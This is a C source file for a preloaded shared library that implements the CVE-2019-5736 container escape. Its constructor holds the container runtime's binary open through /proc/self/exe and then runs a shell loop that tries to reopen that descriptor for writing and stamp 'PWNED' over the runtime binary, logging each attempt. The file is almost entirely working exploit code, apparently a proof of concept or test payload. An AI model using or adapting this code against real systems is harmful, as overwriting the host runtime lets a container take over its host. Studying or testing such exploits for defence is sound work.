/* exe-overwrite.so: the CVE-2019-5736 attack, as a library the container
 * preloads (LD_PRELOAD) into the runtime binary it makes the kernel execute
 * through /proc/self/exe.  Its constructor holds /proc/self/exe open (read
 * only: the binary is busy) on fd 3 and execs a shell that retries, for a few
 * seconds, to open that fd again for writing and put "PWNED" at the start of
 * the runtime binary, reporting every outcome to /exe-overwrite.log. */
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

__attribute__((constructor)) static void attack(void)
{
    unsetenv("LD_PRELOAD");
    int fd = open("/proc/self/exe", O_RDONLY); /* no O_CLOEXEC: it must survive the exec */
    if (fd < 0) {
        perror("open /proc/self/exe");
        _exit(3);
    }
    if (fd != 3) {
        dup2(fd, 3);
        close(fd);
    }
    char exe[4096] = "";
    ssize_t n = readlink("/proc/self/exe", exe, sizeof(exe) - 1);
    FILE *log = fopen("/exe-overwrite.log", "w");
    if (log) {
        fprintf(log, "exe: %s\n", n > 0 ? exe : "?");
        fclose(log);
    }
    execl("/bin/sh", "sh", "-c",
          "for i in $(seq 50); do "
          "  if err=$( { printf PWNED 1<>/proc/self/fd/3; } 2>&1 ); then echo written >>/exe-overwrite.log; exit 0; fi; "
          "  echo \"$err\" >>/exe-overwrite.log; sleep 0.1; "
          "done; exit 1",
          (char *)NULL);
    _exit(4);
}
